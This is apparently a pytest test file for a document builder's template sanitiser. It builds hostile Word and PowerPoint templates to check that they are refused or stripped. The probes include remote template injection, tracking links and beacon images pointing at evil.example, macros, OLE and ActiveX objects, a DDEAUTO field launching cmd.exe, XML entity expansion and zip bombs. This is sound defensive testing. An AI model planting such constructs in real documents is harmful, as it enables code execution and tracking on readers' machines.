"""Hostile and broken templates: nothing in a theme reaches a reader's machine.

Each probe is built here from the corporate templates (no hostile file is committed) and given to the
``brief`` command through a theme file.  What cannot be made safe is refused with exit 2 and one
``FILE:1:1: error:`` line, the output folder untouched; what reaches outside the file is dropped with one
warning per item, and the output is still valid Open XML.
"""
from __future__ import annotations

import io
import json
import shutil
import struct
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest

from builders.errors import InputError
from builders.safezip import MAX_PART, MB
from builders.sanitize import sanitize

from .conftest import MINIMAL, ROOT
from .ooxml import validate, xml_problems

CORPORATE = ROOT / "themes" / "corporate"
REFERENCE, DECK = CORPORATE / "reference.docx", CORPORATE / "template.pptx"
R_NS = REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"  # namespace and type prefix
RELS_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'


# ---------------------------------------------------------------- making probes

def repack(src: Path, dst: Path, edit) -> Path:
    """``src`` with its parts (name -> bytes, in order) changed by ``edit``, written to ``dst``."""
    with zipfile.ZipFile(src) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    edit(parts)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return dst


def add_rels(parts: dict, rels_name: str, xml: str) -> None:
    """Add ``<Relationship>`` elements to a part's relationships, creating the part if need be."""
    old = parts.get(rels_name, (RELS_HEAD + "</Relationships>").encode()).decode()
    parts[rels_name] = old.replace("</Relationships>", xml + "</Relationships>").encode()


def add_types(parts: dict, xml: str) -> None:
    ct = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = ct.replace("</Types>", xml + "</Types>").encode()


def in_header(parts: dict, xml: str) -> None:
    """Put ``xml`` (runs) into the letterhead paragraph: the header is kept, so it reaches the report."""
    head = parts["word/header1.xml"].decode()
    parts["word/header1.xml"] = head.replace("</w:p>", xml + "</w:p>", 1).encode()


def remote_template(parts: dict) -> None:
    settings = parts["word/settings.xml"].decode()
    parts["word/settings.xml"] = settings.replace(
        '<w:defaultTabStop', '<w:attachedTemplate r:id="rId1"/><w:defaultTabStop', 1).encode()
    add_rels(parts, "word/_rels/settings.xml.rels",
             f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
             'Target="https://evil.example/normal.dotm" TargetMode="External"/>')


def outside_hyperlink(parts: dict) -> None:
    in_header(parts, '<w:hyperlink r:id="rId90"><w:r><w:t xml:space="preserve"> visit us</w:t></w:r></w:hyperlink>')
    add_rels(parts, "word/_rels/header1.xml.rels",
             f'<Relationship Id="rId90" Type="{REL}/hyperlink" Target="https://evil.example/track" '
             'TargetMode="External"/>')


LINKED_PICTURE = (
    '<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="91440" cy="91440"/>'
    '<wp:docPr id="90" name="Beacon"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
    '<pic:cNvPr id="90" name="Beacon"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rId91"/>'
    '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
    '<a:ext cx="91440" cy="91440"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
    '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')


def linked_picture(parts: dict) -> None:
    in_header(parts, LINKED_PICTURE)
    add_rels(parts, "word/_rels/header1.xml.rels",
             f'<Relationship Id="rId91" Type="{REL}/image" Target="https://evil.example/beacon.png" '
             'TargetMode="External"/>')


def macros(parts: dict) -> None:
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 not really a macro project"
    parts["word/vbaData.xml"] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                                 b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>')
    add_rels(parts, "word/_rels/document.xml.rels",
             '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
             'Target="vbaProject.bin"/>')
    add_rels(parts, "word/_rels/vbaProject.bin.rels",
             '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" '
             'Target="vbaData.xml"/>')
    add_types(parts, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                     '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>')
    ct = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = ct.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml").encode()


OLE = ('<w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1025" type="#_x0000_t75" '
       'style="width:72pt;height:72pt"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" '
       'DrawAspect="Icon" ObjectID="_1700000000" r:id="rId92"/></w:object></w:r>')


def ole_object(parts: dict) -> None:
    in_header(parts, OLE)
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 an embedded executable, say"
    add_rels(parts, "word/_rels/header1.xml.rels",
             f'<Relationship Id="rId92" Type="{REL}/oleObject" Target="embeddings/oleObject1.bin"/>')
    add_types(parts, '<Override PartName="/word/embeddings/oleObject1.bin" '
                     'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>')


def activex(parts: dict) -> None:
    in_header(parts, '<w:r><w:object><w:control r:id="rId93" w:name="CommandButton1"/></w:object></w:r>')
    parts["word/activeX/activeX1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><ax:ocx '
        b'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage"/>')
    add_rels(parts, "word/_rels/header1.xml.rels",
             f'<Relationship Id="rId93" Type="{REL}/control" Target="activeX/activeX1.xml"/>')
    add_types(parts, '<Override PartName="/word/activeX/activeX1.xml" '
                     'ContentType="application/vnd.ms-office.activeX+xml"/>')


def dde_field(parts: dict) -> None:
    in_header(parts, '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
                     'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
                     '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old result</w:t></w:r>'
                     '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def deck_hyperlink(parts: dict) -> None:
    master = parts["ppt/slideMasters/slideMaster1.xml"].decode()
    parts["ppt/slideMasters/slideMaster1.xml"] = master.replace(
        '<p:cNvPr id="4" name="House wordmark"/>',
        '<p:cNvPr id="4" name="House wordmark"><a:hlinkClick r:id="rId90"/></p:cNvPr>', 1).encode()
    add_rels(parts, "ppt/slideMasters/_rels/slideMaster1.xml.rels",
             f'<Relationship Id="rId90" Type="{REL}/hyperlink" Target="https://evil.example/" TargetMode="External"/>')


DECK_OLE = ('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="90" name="Object 89"/><p:cNvGraphicFramePr>'
            '<a:graphicFrameLocks noChangeAspect="1"/></p:cNvGraphicFramePr><p:nvPr/></p:nvGraphicFramePr>'
            '<p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm><a:graphic><a:graphicData '
            'uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj name="Packager Shell Object" '
            'r:id="rId91" imgW="914400" imgH="914400" progId="Package"><p:embed/></p:oleObj></a:graphicData>'
            '</a:graphic></p:graphicFrame>')


def deck_ole(parts: dict) -> None:
    master = parts["ppt/slideMasters/slideMaster1.xml"].decode()
    parts["ppt/slideMasters/slideMaster1.xml"] = master.replace("</p:spTree>", DECK_OLE + "</p:spTree>", 1).encode()
    parts["ppt/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 an embedded executable, say"
    add_rels(parts, "ppt/slideMasters/_rels/slideMaster1.xml.rels",
             f'<Relationship Id="rId91" Type="{REL}/oleObject" Target="../embeddings/oleObject1.bin"/>')
    add_types(parts, '<Override PartName="/ppt/embeddings/oleObject1.bin" '
                     'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>')


def deck_macro_action(parts: dict) -> None:
    master = parts["ppt/slideMasters/slideMaster1.xml"].decode()
    parts["ppt/slideMasters/slideMaster1.xml"] = master.replace(
        '<p:cNvPr id="4" name="House wordmark"/>',
        '<p:cNvPr id="4" name="House wordmark"><a:hlinkClick r:id="" action="ppaction://macro?name=Evil"/>'
        '</p:cNvPr>', 1).encode()


def doctype(parts: dict) -> None:
    styles = parts["word/styles.xml"].decode()
    decl, rest = styles.split("?>", 1)
    parts["word/styles.xml"] = (decl + '?><!DOCTYPE w:styles [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>'
                                + rest).encode()


def bomb(path: Path, gib: float = 1.0) -> Path:
    """The corporate reference document plus one part that inflates to ``gib`` GiB of zeros, written in
    1 MiB chunks: the test never holds more than a chunk of it (compression level 1: twice as fast)."""
    shutil.copyfile(REFERENCE, path)
    chunk = bytes(MB)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        with z.open("word/media/image1.png", "w", force_zip64=True) as part:
            for _ in range(int(gib * 1024)):
                part.write(chunk)
    return path


def understated(path: Path, size: int, declared: int) -> Path:
    """A zip whose last part inflates to ``size`` bytes while both its headers declare ``declared``."""
    shutil.copyfile(REFERENCE, path)
    name = "word/media/image1.png"
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z:
        with z.open(name, "w") as part:
            for _ in range(size // MB):
                part.write(bytes(MB))
        offset = z.getinfo(name).header_offset
    data = bytearray(path.read_bytes())
    assert data[offset:offset + 4] == b"PK\x03\x04"
    struct.pack_into("<I", data, offset + 22, declared)  # local header: uncompressed size
    central = data.rfind(b"PK\x01\x02")  # the last entry of the central directory is the part just added
    assert data[central + 46:central + 46 + len(name)] == name.encode()
    struct.pack_into("<I", data, central + 24, declared)  # central directory: uncompressed size
    path.write_bytes(bytes(data))
    return path


# ---------------------------------------------------------------- running the command

def theme_with(tmp_path: Path, docx: Path | None = None, pptx: Path | None = None) -> Path:
    """A theme extending corporate with the given templates."""
    names = {k: str(v) for k, v in (("docx", docx), ("pptx", pptx)) if v is not None}
    theme = tmp_path / "hostile.yaml"
    theme.write_text("extends: corporate\ntemplates: " + json.dumps(names) + "\n", encoding="utf-8")
    return theme


def build(theme: Path, out: Path, *options: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "builders", "build", str(MINIMAL), "--theme", str(theme),
                           "--out", str(out), "--to", "docx,pptx", "-q", *options],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)


def previous_outputs(out: Path) -> dict[str, bytes]:
    """An output folder with a previous build's files in it: a failed build must leave them as they are."""
    out.mkdir()
    files = {"minimal.docx": b"previous report", "minimal.pptx": b"previous deck", "notes.txt": b"mine"}
    for name, data in files.items():
        (out / name).write_bytes(data)
    return files


def folder(out: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in out.iterdir()}


def refused(tmp_path: Path, expected: list[str], **templates: Path) -> None:
    out = tmp_path / "out"
    before = previous_outputs(out)
    r = build(theme_with(tmp_path, **templates), out)
    assert r.returncode == 2, r.stderr
    assert r.stderr.splitlines() == expected
    assert folder(out) == before


def tpl_name(path: Path) -> str:
    return str(path.resolve())


# ---------------------------------------------------------------- refused: exit 2, outputs untouched

def test_not_a_zip(tmp_path):
    tpl = tmp_path / "letterhead.docx"
    tpl.write_text("this is not a Word file", encoding="utf-8")
    refused(tmp_path, [f"{tpl_name(tpl)}:1:1: error: not a Word template (.docx, .dotx): the file is not a zip package"],
            docx=tpl)


def test_wrong_kind_of_office_file_both_reported_at_once(tmp_path):
    as_word = shutil.copyfile(DECK, tmp_path / "deck-as-word.docx")
    as_deck = shutil.copyfile(REFERENCE, tmp_path / "word-as-deck.pptx")
    refused(tmp_path, [
        f"{tpl_name(as_word)}:1:1: error: not a Word template (.docx, .dotx): the file is a PowerPoint presentation",
        f"{tpl_name(as_deck)}:1:1: error: not a PowerPoint template (.pptx, .potx): the file is a Word document",
    ], docx=as_word, pptx=as_deck)


def test_a_zip_that_is_no_office_file(tmp_path):
    tpl = tmp_path / "plain.docx"
    with zipfile.ZipFile(tpl, "w") as z:
        z.writestr("readme.txt", "hello")
    refused(tmp_path, [f"{tpl_name(tpl)}:1:1: error: not a Word template (.docx, .dotx): the zip package is not an "
                       "Office document (it has no [Content_Types].xml or _rels/.rels)"], docx=tpl)


def test_office_files_without_a_body_or_a_slide_master(tmp_path):
    empty_word = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    empty_deck = b'<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'
    docx = repack(REFERENCE, tmp_path / "nobody.docx", lambda p: p.update({"word/document.xml": empty_word}))
    pptx = repack(DECK, tmp_path / "nomaster.pptx", lambda p: p.update({"ppt/presentation.xml": empty_deck}))
    refused(tmp_path, [
        f"{tpl_name(docx)}:1:1: error: not a Word template (.docx, .dotx): its main part word/document.xml has no w:body",
        f"{tpl_name(pptx)}:1:1: error: not a PowerPoint template (.pptx, .potx): it has no slide master",
    ], docx=docx, pptx=pptx)


def test_doctype_with_entities_is_refused(tmp_path):
    tpl = repack(REFERENCE, tmp_path / "entities.docx", doctype)
    refused(tmp_path, [f"{tpl_name(tpl)}:1:1: error: part word/styles.xml declares a DTD or entities "
                       "(<!DOCTYPE/<!ENTITY); a template may not (entities can expand without bound or read other "
                       "files)"], docx=tpl)


def test_part_that_is_not_xml(tmp_path):
    tpl = repack(REFERENCE, tmp_path / "broken.docx", lambda p: p.update({"word/settings.xml": b"<w:settings"}))
    out = tmp_path / "out"
    before = previous_outputs(out)
    r = build(theme_with(tmp_path, docx=tpl), out)
    assert r.returncode == 2
    [line] = r.stderr.splitlines()
    assert line.startswith(f"{tpl_name(tpl)}:1:1: error: part word/settings.xml is not well-formed XML: ")
    assert folder(out) == before


def test_zip_bomb_is_refused_fast_and_small(tmp_path):
    """1 GiB of zeros in one part: refused from the zip's declared sizes, before anything is inflated."""
    tpl = bomb(tmp_path / "bomb.docx")
    assert tpl.stat().st_size < 10 * MB
    out = tmp_path / "out"
    before = previous_outputs(out)
    theme = theme_with(tmp_path, docx=tpl)
    # Measured in a fresh process: RUSAGE_CHILDREN is the largest of *its* children, the brief command only.
    probe = textwrap.dedent(f"""
        import json, resource, subprocess, sys, time
        start = time.perf_counter()
        r = subprocess.run({[sys.executable, "-m", "builders", "build", str(MINIMAL), "--theme", str(theme),
                             "--out", str(out), "--to", "docx,pptx"]!r}, capture_output=True, text=True)
        took = time.perf_counter() - start
        rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024
        print(json.dumps({{"status": r.returncode, "stderr": r.stderr, "seconds": took, "rss": rss}}))
    """)
    result = json.loads(subprocess.run([sys.executable, "-c", probe], cwd=ROOT, capture_output=True, text=True,
                                       timeout=60).stdout)
    assert result["status"] == 2
    assert result["stderr"].splitlines() == [
        f"{tpl_name(tpl)}:1:1: error: part word/media/image1.png inflates to 1024.0 MB; a template part may "
        f"inflate to at most {MAX_PART // MB} MB"]
    assert folder(out) == before
    assert result["rss"] < 200 * MB, result  # nothing inflated: memory proves it, where time would race the machine


def test_zip_header_understating_a_part_cannot_bypass_the_cap(tmp_path):
    """Declared 1,000 bytes, inflating to 40 MiB: counting what is inflated stops it at the cap."""
    tpl = understated(tmp_path / "liar.docx", 40 * MB, 1000)
    refused(tmp_path, [f"{tpl_name(tpl)}:1:1: error: part word/media/image1.png inflates to more than "
                       f"{MAX_PART // MB} MB (its zip header says 1000 bytes); a template part may inflate to at "
                       f"most {MAX_PART // MB} MB"], docx=tpl)


# ---------------------------------------------------------------- dropped: one warning each, valid outputs

DROPS = {
    "remote-template": (remote_template, ["dropped external relationship rId1 of word/settings.xml "
                                          "(attachedTemplate -> https://evil.example/normal.dotm)"]),
    "hyperlink": (outside_hyperlink, ["dropped external relationship rId90 of word/header1.xml "
                                      "(hyperlink -> https://evil.example/track)"]),
    "linked-picture": (linked_picture, ["dropped external relationship rId91 of word/header1.xml "
                                        "(image -> https://evil.example/beacon.png)"]),
    "macros": (macros, ["converted the macro-enabled main part word/document.xml "
                        "(application/vnd.ms-word.document.macroEnabled.main+xml) to a macro-free one",
                        "dropped macro project word/vbaProject.bin", "dropped macro data word/vbaData.xml"]),
    "ole": (ole_object, ["dropped embedded OLE object word/embeddings/oleObject1.bin"]),
    "activex": (activex, ["dropped ActiveX control word/activeX/activeX1.xml"]),
    "dde": (dde_field, ["dropped the DDEAUTO field of word/header1.xml (its last result is kept as text)"]),
}


@pytest.fixture(scope="module")
def dropped(tmp_path_factory):
    """Every drop probe built once through the command: {probe: (template, sanitised, result, out)}."""
    runs = {}
    for key, (edit, _) in DROPS.items():
        tmp = tmp_path_factory.mktemp(key)
        tpl = repack(REFERENCE, tmp / f"{key}.docx", edit)
        out = tmp / "out"
        (out).mkdir()
        (out / "notes.txt").write_bytes(b"mine")
        clean = tmp / f"{key}-sanitised.docx"
        clean.write_bytes(sanitize(tpl, "docx").data)
        runs[key] = (tpl, clean, build(theme_with(tmp, docx=tpl), out), out)
    return runs


@pytest.mark.parametrize("key", DROPS)
def test_outside_reaching_item_dropped_with_one_warning(dropped, key):
    tpl, clean, r, out = dropped[key]
    assert r.returncode == 0, r.stderr
    assert "Traceback" not in r.stderr
    mine = [line for line in r.stderr.splitlines() if line.startswith(f"{tpl_name(tpl)}:")]
    assert mine == [f"{tpl_name(tpl)}:1:1: warning: {w}" for w in DROPS[key][1]]
    assert (out / "notes.txt").read_bytes() == b"mine"
    for package in (clean, out / "minimal.docx"):
        with zipfile.ZipFile(package) as z:
            names = z.namelist()
            text = b"".join(z.read(n) for n in names if n.endswith((".xml", ".rels")))
        assert not any(n.endswith(".bin") for n in names), names
        for gone in (b'TargetMode="External"', b"evil.example", b"vbaProject", b"macroEnabled", b"activeX",
                     b"oleObject", b"DDEAUTO", b"w:attachedTemplate"):
            assert gone not in text, (package.name, gone)
        assert xml_problems(package) == []


def test_strict_build_fails_on_a_dropped_item_and_keeps_the_outputs(tmp_path):
    tpl = repack(REFERENCE, tmp_path / "remote.docx", remote_template)
    out = tmp_path / "out"
    before = previous_outputs(out)
    r = build(theme_with(tmp_path, docx=tpl), out, "--strict")
    assert r.returncode == 1
    assert r.stderr.splitlines() == [f"{MINIMAL}: error: 1 warning(s) with --strict; nothing written"]
    assert folder(out) == before


def test_what_the_letterhead_keeps(dropped):
    """The link goes, its words stay; a field's last result stays as text."""
    import docx

    for key, words in (("hyperlink", "visit us"), ("dde", "old result")):
        _, _, _, out = dropped[key]
        header = docx.Document(str(out / "minimal.docx")).sections[0].header
        assert words in " ".join(p.text for p in header.paragraphs), key


def test_sanitised_templates_and_their_outputs_are_valid_open_xml(dropped):
    files = [p for _, clean, _, out in dropped.values() for p in (clean, out / "minimal.docx", out / "minimal.pptx")]
    invalid = {str(p.relative_to(p.parent.parent)): e for p, e in validate(files).items() if e}
    assert invalid == {}


@pytest.mark.parametrize("edit, warning", [
    (deck_hyperlink, "dropped external relationship rId90 of ppt/slideMasters/slideMaster1.xml "
                     "(hyperlink -> https://evil.example/)"),
    (deck_ole, "dropped embedded OLE object ppt/embeddings/oleObject1.bin"),
    (deck_macro_action, "dropped the action ppaction://macro?name=Evil of ppt/slideMasters/slideMaster1.xml"),
], ids=["hyperlink", "ole", "macro-action"])
def test_deck_template_items_dropped(tmp_path, edit, warning):
    tpl = repack(DECK, tmp_path / "hostile.pptx", edit)
    out = tmp_path / "out"
    r = build(theme_with(tmp_path, pptx=tpl), out)
    assert r.returncode == 0, r.stderr
    assert [ln for ln in r.stderr.splitlines() if ln.startswith(f"{tpl_name(tpl)}:")] == [
        f"{tpl_name(tpl)}:1:1: warning: {warning}"]
    deck = out / "minimal.pptx"
    with zipfile.ZipFile(deck) as z:
        names = z.namelist()
        assert not any(bad in z.read(n) for n in names for bad in (b"evil.example", b"oleObj", b"ppaction"))
        assert not any("embeddings/" in n for n in names), names
    clean = tmp_path / "sanitised.pptx"
    clean.write_bytes(sanitize(tpl, "pptx").data)
    assert validate([deck, clean]) == {deck: [], clean: []}


def test_clean_template_is_passed_through_unchanged():
    for path, kind in ((REFERENCE, "docx"), (DECK, "pptx")):
        clean = sanitize(path, kind)
        assert clean.data == path.read_bytes() and clean.warnings == ()


def test_dotx_and_macro_free_content_types(tmp_path):
    """A .dotx opens as a document, without a warning: a template content type is not a danger."""
    def as_template(parts):
        ct = parts["[Content_Types].xml"].decode()
        parts["[Content_Types].xml"] = ct.replace("document.main+xml", "template.main+xml").encode()

    tpl = repack(REFERENCE, tmp_path / "house.dotx", as_template)
    clean = sanitize(tpl, "docx")
    assert clean.warnings == ()
    with zipfile.ZipFile(io.BytesIO(clean.data)) as z:
        assert b"wordprocessingml.document.main+xml" in z.read("[Content_Types].xml")


def test_theme_check_reports_before_any_build(tmp_path):
    """The theme is refused as it loads (``brief themes``-style callers included), not in a builder."""
    from builders.errors import InputError
    from builders.theme import load_theme

    tpl = tmp_path / "x.pptx"
    tpl.write_bytes(b"PK\x03\x04 truncated")
    with pytest.raises(InputError) as err:
        load_theme(str(theme_with(tmp_path, pptx=tpl)))
    assert [str(d) for d in err.value.diagnostics] == [
        f"{tpl_name(tpl)}:1:1: error: not a PowerPoint template (.pptx, .potx): the file is not a zip package"]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be"])
def test_a_dtd_in_utf16_is_found_too(tmp_path, encoding):
    def utf16_doctype(parts):
        doctype(parts)
        text = parts["word/styles.xml"].decode("utf-8").replace("encoding='UTF-8'", "encoding='UTF-16'")
        parts["word/styles.xml"] = text.encode(encoding)

    tpl = repack(REFERENCE, tmp_path / "wide.docx", utf16_doctype)
    with pytest.raises(InputError) as err:
        sanitize(tpl, "docx")
    assert [d.message for d in err.value.diagnostics] == [
        "part word/styles.xml declares a DTD or entities (<!DOCTYPE/<!ENTITY); a template may not (entities can "
        "expand without bound or read other files)"]


# ---------------------------------------------------------------- the XML side, directly

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def _word(body: str):
    from lxml import etree

    return etree.fromstring(
        '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        f'xmlns:r="{R_NS}"><w:p>{body}</w:p></w:hdr>')


def _text(root) -> str:
    return "".join(root.itertext())


def test_fields_that_reach_outside_keep_their_result_others_stay_whole():
    from builders.reach import word_outside

    begin, sep, end = ('<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % k for k in ("begin", "separate", "end"))
    instr = '<w:r><w:instrText>%s</w:instrText></w:r>'
    root = _word(
        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://x/y.png&quot; "><w:r><w:t>pic</w:t></w:r></w:fldSimple>'
        '<w:fldSimple w:instr=" PAGE "><w:r><w:t>7</w:t></w:r></w:fldSimple>'
        + begin + instr % "LINK Excel.Sheet " + begin + instr % "QUOTE 1" + sep + end + sep
        + '<w:r><w:t>linked</w:t></w:r>' + end
        + begin + instr % "HYPERLINK \\l bookmark" + sep + '<w:r><w:t>inside</w:t></w:r>' + end)
    assert word_outside(root) == [("the INCLUDEPICTURE field", "its last result is kept as text"),
                                  ("the LINK field", "its last result is kept as text")]
    assert _text(root) == "pic7linkedHYPERLINK \\l bookmarkinside"
    assert len(root.findall(".//{*}fldSimple")) == 1  # PAGE stays a field
    assert [c.get(f"{W}fldCharType") for c in root.iter(f"{W}fldChar")] == ["begin", "separate", "end"]


def test_mail_merge_goes_and_internal_hyperlinks_stay():
    from builders.reach import unreference, word_outside

    root = _word('<w:hyperlink r:id="rId1"><w:r><w:t>out</w:t></w:r></w:hyperlink>'
                 '<w:hyperlink w:anchor="top" r:id="rId1"><w:r><w:t>up</w:t></w:r></w:hyperlink>'
                 '<w:hyperlink r:id="rId2"><w:r><w:t>kept</w:t></w:r></w:hyperlink>')
    assert unreference(root, {"rId1"})
    links = root.findall(".//{*}hyperlink")
    assert [(h.get(f"{W}anchor"), h.get(f"{{{R_NS}}}id")) for h in links] == [("top", None), (None, "rId2")]
    assert _text(root) == "outupkept"
    settings = _word('<w:mailMerge><w:mainDocumentType w:val="formLetters"/></w:mailMerge>')
    assert word_outside(settings) == [("the mail-merge data source", "")]
    assert settings.find(".//{*}mailMerge") is None


def test_declared_total_over_the_cap_with_every_part_under_it(tmp_path, monkeypatch):
    from builders import safezip

    monkeypatch.setattr(safezip, "MAX_TOTAL", 3 * MB)
    path = tmp_path / "many.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for i in range(4):
            z.writestr(f"part{i}.bin", bytes(MB))
    with pytest.raises(safezip.Unsafe) as err:
        safezip.read_parts(path)
    assert err.value.problems == ["the parts inflate to 4.0 MB in all; a template may inflate to at most 3 MB"]
